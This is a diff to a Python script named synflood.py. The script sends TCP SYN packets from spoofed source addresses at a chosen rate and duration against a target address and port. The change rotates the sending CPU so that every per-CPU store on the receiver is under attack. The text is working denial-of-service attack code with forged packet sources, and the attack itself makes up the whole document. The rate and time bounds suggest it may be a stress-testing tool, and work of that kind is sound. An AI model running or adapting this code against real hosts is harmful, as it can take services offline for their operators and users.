@@ -6,9 +6,12 @@ SYNs from addresses that nobody has, at a bounded rate, for a bounded time.
     synflood.py RATE SECONDS PREFIX FIRST LAST ADDRESS PORT
 
 The sources are PREFIX.FIRST to PREFIX.LAST (IPv4, on the link of ADDRESS, so that the SYN-ACKs are sent and
-meet no reset). Prints how many it has sent.
+meet no reset). They come by each CPU in turn: whatever the receiver keeps for each, all of it is under attack.
+Prints how many it has sent.
 """
 
+import itertools
+import os
 import random
 import socket
 import struct
@@ -40,8 +43,10 @@ def main():
     packets = [syn(f"{prefix}.{choose.randint(first, last)}", target, choose.randint(1024, 65535), port,
                    choose.getrandbits(32)) for _ in range(DIFFERENT)]
     sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    cpus = itertools.cycle(sorted(os.sched_getaffinity(0)))
     sent, began = 0, time.monotonic()
     while (now := time.monotonic() - began) < seconds:
+        os.sched_setaffinity(0, {next(cpus)})
         while sent < now * rate:
             try:
                 sock.sendto(packets[sent % DIFFERENT], (target, 0))
